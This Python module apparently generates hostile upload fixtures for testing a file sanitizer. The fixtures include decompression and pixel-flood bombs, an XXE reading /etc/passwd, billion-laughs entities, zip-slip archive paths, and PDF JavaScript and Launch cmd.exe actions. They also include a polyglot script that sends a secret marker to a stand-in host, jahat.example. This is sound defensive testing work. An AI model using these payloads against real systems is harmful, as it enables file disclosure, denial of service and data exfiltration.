"""Files that want to hurt: made here from a seed, none is kept in the repository.

``corpus(count, seed)`` gives name, bytes, and what must become of them: ``refused``, or ``harmless`` (kept, but with nothing of
what was hidden in it). ``SECRETS`` are the words that stand for a place or a device in the metadata.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from openpyxl import Workbook
from PIL import Image
from PIL.TiffImagePlugin import ImageFileDirectory_v2

SECRETS = (b"RUMAHAMAN", b"SERIALNUMMER77", b"ALAMATRAHASIA")


@dataclass(frozen=True)
class Hostile:
    """One file."""

    name: str
    kind: str  # photo | pdf | sheet
    content: bytes
    fate: str  # refused | harmless | either


def _picture(chance: random.Random, form: str) -> bytes:
    side = chance.randrange(24, 90)
    image = Image.effect_noise((side, side), chance.randrange(20, 90)).convert("RGB")
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F], exif[0x0131], exif[0xA431] = "SERIALNUMMER77", "ALAMATRAHASIA", "SERIALNUMMER77"
    exif[0x0112] = chance.choice((1, 3, 6, 8))
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4], gps[29] = "S", (7.0, 28.0, 12.5), "E", (110.0, 13.0, 1.0), "RUMAHAMAN"
    options: dict[str, object] = {"exif": exif}
    if form == "JPEG":
        options["comment"] = b"RUMAHAMAN"
    if form == "WEBP":
        options["xmp"] = b"<x:xmpmeta><rdf>ALAMATRAHASIA</rdf></x:xmpmeta>"
    image.save(out, form, **options)
    return out.getvalue()


def _photo_with_secrets(chance: random.Random) -> Hostile:
    form = chance.choice(("JPEG", "PNG", "WEBP"))
    content = _picture(chance, form)
    if form == "JPEG":
        thumb = (
            b"\xff\xe1" + struct.pack(">H", 2 + 29 + 10) + b"http://ns.adobe.com/xap/1.0/\x00" + b"RUMAHAMAN "
        )
        maker = b"\xff\xed" + struct.pack(">H", 2 + 14) + b"SERIALNUMMER77"
        content = content[:2] + thumb + maker + content[2:]
    return Hostile(f"gps-{form.lower()}", "photo", content, "harmless")


def _polyglot(chance: random.Random) -> Hostile:
    tail = chance.choice(
        (
            _zip({"x.txt": b"ALAMATRAHASIA"}),
            b"<html><script>fetch('//jahat.example/'+'RUMAHAMAN')</script></html>",
            b"%PDF-1.4\n1 0 obj<</JS(RUMAHAMAN)>>endobj",
            b"\x7fELFRUMAHAMAN" * 20,
            b"<?php echo 'SERIALNUMMER77'; ?>",
        )
    )
    form = chance.choice(("JPEG", "PNG", "WEBP"))
    return Hostile(f"polyglot-{form.lower()}", "photo", _picture(chance, form) + tail, "harmless")


def _flood(chance: random.Random) -> Hostile:
    side = chance.choice((20_000, 40_000, 65_000))
    head = struct.pack(">IIBBBBB", side, side, 8, chance.choice((0, 2, 6)), 0, 0, 0)
    body = zlib.compress(b"\x00" * 200_000, 9)
    content = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")
    return Hostile("pixel-flood", "photo", content, "refused")


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _text_bomb(chance: random.Random) -> Hostile:
    words = zlib.compress(b"A" * chance.choice((5, 20, 60)) * 1024 * 1024, 9)
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "PNG")
    whole = out.getvalue()
    content = (
        whole[:33]
        + _chunk(b"zTXt", b"Comment\x00\x00" + words)
        + _chunk(b"iCCP", b"x\x00\x00" + words)
        + whole[33:]
    )
    return Hostile("png-text-bomb", "photo", content, "either")


def _not_a_photo(chance: random.Random) -> Hostile:
    content = chance.choice(
        (
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            b"GIF89a" + b"\x01" * 60,
            b"<!doctype html><script>alert(1)</script>",
            b"\x00\x00\x00\x20ftypheic" + b"\x00" * 90,
            b"MZ" + b"\x90" * 200,
            b"RIFF\x10\x00\x00\x00WAVEfmt ",
            b"\xff\xd8\xff" + chance.randbytes(300),
            b"\x89PNG\r\n\x1a\n" + chance.randbytes(300),
            b"RIFF\xff\xff\xff\xffWEBPVP8 " + chance.randbytes(200),
        )
    )
    return Hostile("not-a-photo", "photo", content, "refused")


def _broken_photo(chance: random.Random) -> Hostile:
    content = bytearray(_picture(chance, chance.choice(("JPEG", "PNG", "WEBP"))))
    for _n in range(chance.randrange(1, 40)):
        content[chance.randrange(12, len(content))] = chance.randrange(256)
    cut = chance.choice((len(content), chance.randrange(20, len(content))))
    return Hostile("broken-photo", "photo", bytes(content[:cut]), "either")


def _exif_maze(chance: random.Random) -> Hostile:
    """An EXIF block whose directories point at each other and beyond the end."""
    tiff = b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", 3)
    tiff += struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<HHII", 0x8825, 4, 1, 8)
    tiff += (
        struct.pack("<HHII", 0x0110, 2, chance.choice((9, 0x7FFFFFFF)), 26)
        + struct.pack("<I", 8)
        + b"RUMAHAMAN"
    )
    block = b"Exif\x00\x00" + tiff
    picture = _picture(chance, "JPEG")
    content = picture[:2] + b"\xff\xe1" + struct.pack(">H", len(block) + 2) + block + picture[2:]
    assert ImageFileDirectory_v2 is not None
    return Hostile("exif-maze", "photo", content, "either")


def _pdf(*objects: bytes, tail: bytes = b"") -> bytes:
    body = b"%PDF-1.7\n"
    for number, each in enumerate(objects, start=1):
        body += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    return body + b"trailer <</Root 1 0 R>>\n%%EOF\n" + tail


def _acting_pdf(chance: random.Random) -> Hostile:
    act = chance.choice(
        (
            b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
            b"<</Type/Catalog/AA<</O<</S/Launch/F(cmd.exe)>>>>>>",
            b"<</Type/Catalog/Names<</EmbeddedFiles<</Names[(x) 2 0 R]>>>>>>",
            b"<</Type/Catalog/AcroForm<</XFA 2 0 R>>>>",
            b"<</Type/Catalog/OpenAction<</S/#4aavaScript/#4a#53(app.alert(1))>>>>",
            b"<</S/SubmitForm/F(http://jahat.example)>>",
            b"<</Type/Annot/Subtype/RichMedia>>",
        )
    )
    if chance.random() < 0.4:
        packed = zlib.compress(act)
        act = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (
            len(packed),
            packed,
        )
    return Hostile("acting-pdf", "pdf", _pdf(act, b"<<>>"), "refused")


def _pdf_polyglot(chance: random.Random) -> Hostile:
    tail = chance.choice(
        (
            _zip({"x.html": b"RUMAHAMAN"}),
            b"<html><script>1</script>",
            b"\x00" * 4000,
            b"PK\x05\x06" + b"\x00" * 18,
        )
    )
    return Hostile("pdf-polyglot", "pdf", _pdf(b"<</Type/Catalog>>", tail=tail), "refused")


def _pdf_bomb(chance: random.Random) -> Hostile:
    packed = zlib.compress(b"\x00" * chance.choice((80, 160, 300)) * 1024 * 1024, 9)
    stream = b"<</Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(packed), packed)
    return Hostile("pdf-bomb", "pdf", _pdf(b"<</Type/Catalog>>", stream), "refused")


def _paper(chance: random.Random) -> Hostile:
    packed = zlib.compress(b"BT /F1 12 Tf (Kartu Keluarga %d) Tj ET" % chance.randrange(1000))
    stream = b"<</Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(packed), packed)
    return Hostile("paper", "pdf", _pdf(b"<</Type/Catalog/OpenAction[3 0 R/Fit]>>", stream), "harmless")


def _zip(parts: dict[str, bytes], level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as book:
        for name, content in parts.items():
            book.writestr(name, content)
    return out.getvalue()


def _book(**changed: bytes) -> bytes:
    book = Workbook()
    book.worksheets[0].append(["kunci", "nama"])
    book.worksheets[0].append(["a1", "Slamet"])
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as opened:
        parts = {name: opened.read(name) for name in opened.namelist()}
    return _zip(parts | {name.replace("__", "/"): content for name, content in changed.items()})


_LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10 if n else b"ha") for n in range(10))


def _workbook(chance: random.Random) -> Hostile:
    sheet = "xl__worksheets__sheet1.xml"
    xml = b"<?xml version='1.0'?>"
    names: dict[str, Callable[[], bytes]] = {
        "xlsx-bomb": lambda: _book(**{"xl__media__a.png": b"\x00" * chance.choice((300, 400)) * 1024 * 1024}),
        "xlsx-cell-bomb": lambda: _book(
            **{
                sheet: b"<worksheet><sheetData>"
                + b"<row><c><v>1</v></c></row>" * 12_000_000
                + b"</sheetData></worksheet>"
            }
        ),
        "xlsx-xxe": lambda: _book(
            **{
                sheet: xml
                + b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><worksheet>&e;</worksheet>"
            }
        ),
        "xlsx-laughs": lambda: _book(
            **{
                "xl__sharedStrings.xml": xml
                + b"<!DOCTYPE x ["
                + _LAUGHS
                + b"]><sst><si><t>&l9;</t></si></sst>"
            }
        ),
        "xlsx-utf16-xxe": lambda: _book(
            **{
                sheet: "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE x [<!ENTITY e 'x'>]><worksheet/>".encode(
                    "utf-16"
                )
            }
        ),
        "xlsx-slip": lambda: _book(**{chance.choice(("..__..__evil.xml", "xl__..__..__evil.xml")): b"<x/>"}),
        "xlsx-absolute": lambda: _book(**{"__etc__cron.xml": b"<x/>"}),
        "xlsx-macro": lambda: _book(**{"xl__vbaProject.bin": b"\xd0\xcf"}),
        "xlsx-program": lambda: _book(**{"xl__run.exe": b"MZ"}),
        "xlsx-many": lambda: _zip({f"xl/p{n}.xml": b"" for n in range(2_500)}),
        "zip-not-xlsx": lambda: _zip({"isi.txt": b"halo"}),
        "xlsx-cut": lambda: _book()[: chance.randrange(10, 400)],
    }
    # The two big bombs are rare: making one costs more than refusing it.
    rare = {"xlsx-bomb", "xlsx-cell-bomb"}
    name = chance.choice(sorted(names) if chance.random() < 0.02 else sorted(set(names) - rare))
    return Hostile(name, "sheet", names[name](), "refused")


def _table(chance: random.Random) -> Hostile:
    assert chance is not None
    return Hostile("table", "sheet", _book(), "harmless")


MAKERS: tuple[Callable[[random.Random], Hostile], ...] = (
    _photo_with_secrets,
    _polyglot,
    _flood,
    _text_bomb,
    _not_a_photo,
    _broken_photo,
    _exif_maze,
    _acting_pdf,
    _pdf_polyglot,
    _paper,
    _workbook,
    _table,
)


def corpus(count: int, seed: int = 1) -> Iterator[Hostile]:
    """So many hostile files, the same for the same seed; a PDF bomb and the XLSX bombs now and then."""
    chance = random.Random(seed)
    for number in range(count):
        yield _pdf_bomb(chance) if number % 211 == 210 else MAKERS[number % len(MAKERS)](chance)


def bombs(seed: int = 1) -> Iterator[Hostile]:
    """One of each bomb."""
    chance = random.Random(seed)
    yield _pdf_bomb(chance)
    yield _flood(chance)
    yield Hostile("xlsx-bomb", "sheet", _book(**{"xl__media__a.png": b"\x00" * 300 * 1024 * 1024}), "refused")
